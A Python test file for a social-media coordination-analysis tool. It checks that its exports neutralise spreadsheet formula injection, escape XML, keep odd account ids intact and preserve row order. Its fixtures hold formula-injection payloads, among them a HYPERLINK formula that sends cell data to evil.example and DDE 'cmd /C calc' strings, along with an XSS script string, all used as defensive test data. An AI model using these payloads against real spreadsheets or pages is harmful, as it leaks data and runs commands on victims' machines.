"""Hostile data stays data in every export: CSV cells a spreadsheet would run as a formula
are neutralised, GraphML/GEXF escape XML, and the raw values survive in Parquet."""

from __future__ import annotations

import csv
import re

import networkx as nx
import pyarrow.parquet as pq

from conftest import assert_clean_exit, ingest, run_cli

FORMULA = re.compile(r"^[=+\-@\t\r]")
PLAIN_NUMBER = re.compile(r"^[+-]?[0-9]+([.][0-9]+)?([eE][+-]?[0-9]+)?$")
HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1-2<script>alert(1)</script>", "-2+3&\"'<x>"]


def hostile_collection(path):
    """Four accounts with hostile handles retweet the same five posts within seconds."""
    rows = [["message_id", "user_id", "username", "repost_id", "reply_id", "message", "timestamp", "urls"]]
    for post in range(5):
        original = 1000 + post * 10
        rows.append([original, "src", "=source()", "", "", f"=cmd|' /C calc'!A{post} original {post}", 1_700_000_000 + post * 3600, ""])
        for i, name in enumerate(HOSTILE_NAMES):
            rows.append([original + i + 1, f"=u{i}()", name, original, "", f"RT {name}", 1_700_000_000 + post * 3600 + 5 + i, ""])
    with open(path, "w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows(rows)


def cells(path):
    with open(path, newline="", encoding="utf-8") as stream:
        return [cell for row in csv.reader(stream) for cell in row]


def test_csv_exports_are_inert_and_graph_files_escape_xml(tmp_path):
    hostile_collection(tmp_path / "hostile.csv")
    workspace, out = tmp_path / "ws", tmp_path / "out"
    assert_clean_exit(ingest(workspace, "cnt-csv", tmp_path / "hostile.csv"))
    assert_clean_exit(run_cli("coordination", "--workspace", workspace, "--window", "60", "--out", out))
    for name in ("edges.csv", "accounts.csv", "clusters.csv", "viral_objects.csv"):
        dangerous = [c for c in cells(out / name) if FORMULA.match(c) and not PLAIN_NUMBER.match(c)]
        assert not dangerous, (name, dangerous[:3])
    accounts = {row["account_id"]: row for row in csv.DictReader(open(out / "accounts.csv", encoding="utf-8"))}
    assert "'=u0()" in accounts and accounts["'=u0()"]["handle"] == "'" + HOSTILE_NAMES[0]
    # Parquet and the graph files keep the values exactly as they were, escaped as XML needs.
    evidence = pq.read_table(out / "evidence.parquet").to_pylist()
    assert {"=u0()", "=u1()"} <= {row["account_a"] for row in evidence} | {row["account_b"] for row in evidence}
    for graph in (nx.read_graphml(out / "network.graphml"), nx.read_gexf(out / "network.gexf")):
        assert {"=u0()", "=u3()"} <= set(graph.nodes)
        assert graph.nodes["=u2()"]["handle"] == HOSTILE_NAMES[2]


def test_identifiers_that_merely_start_with_a_sign_are_kept_as_given(tmp_path):
    """Takedown archives hash small accounts' ids to base64, which may start with `+` or
    `/`: such ids must come out exactly as they went in, to join with the analyst's data."""
    rows = [["object_id", "account_id", "content_id", "timestamp_share"]]
    ids = ["+2FyZQwqxFvCXk+euXdrEeCoc8rjFYhuHu73PO1SBRI=", "-hbHYTjYJSjlvKnpux9hVghOKCxUToCbF7d+gYwWshE=", "/02UeuTZB7"]
    for obj in range(4):
        for i, account in enumerate(ids):
            rows.append([f"o{obj}", account, f"c{obj}-{i}", 1_700_000_000 + obj * 1000 + i])
    with open(tmp_path / "actions.csv", "w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows(rows)
    assert_clean_exit(ingest(tmp_path / "ws", "actions", tmp_path / "actions.csv"))
    assert_clean_exit(run_cli("coordination", "--workspace", tmp_path / "ws", "--window", "60", "--out", tmp_path / "out"))
    exported = {row["account_id"] for row in csv.DictReader(open(tmp_path / "out" / "accounts.csv", encoding="utf-8"))}
    assert exported == set(ids)
    edges = list(csv.DictReader(open(tmp_path / "out" / "edges.csv", encoding="utf-8")))
    assert {e["account_a"] for e in edges} | {e["account_b"] for e in edges} == set(ids)


def test_files_keep_a_large_tables_stored_order(tmp_path):
    """The workspace lets DuckDB reorder unordered results (preserve_insertion_order off);
    a file written from a table stored sorted must still come out in that order, the same
    on every run — here a table of many row groups, scanned by several threads."""
    from inconcert.store.files import copy_csv, copy_parquet
    from inconcert.store.workspace import Workspace

    with Workspace.open(tmp_path / "ws") as ws:
        ws.con.execute("SET threads = 4")
        ws.con.execute("CREATE TABLE shuffled AS SELECT CAST(hash(i) AS VARCHAR) AS key, i FROM range(1500000) AS r(i)")
        ws.con.execute("CREATE TABLE stored AS SELECT * FROM shuffled ORDER BY key")
        copy_parquet(ws.con, "SELECT * FROM stored", tmp_path / "stored.parquet")
        copy_csv(ws.con, "SELECT * FROM stored", tmp_path / "stored.csv")
        assert not ws.con.execute("SELECT current_setting('preserve_insertion_order')").fetchone()[0], "setting restored"
    keys = pq.read_table(tmp_path / "stored.parquet", columns=["key"]).column("key").to_pylist()
    assert keys == sorted(keys) and len(keys) == 1_500_000
    with open(tmp_path / "stored.csv", newline="", encoding="utf-8") as stream:
        assert [row[0] for row in csv.reader(stream)][1:] == keys
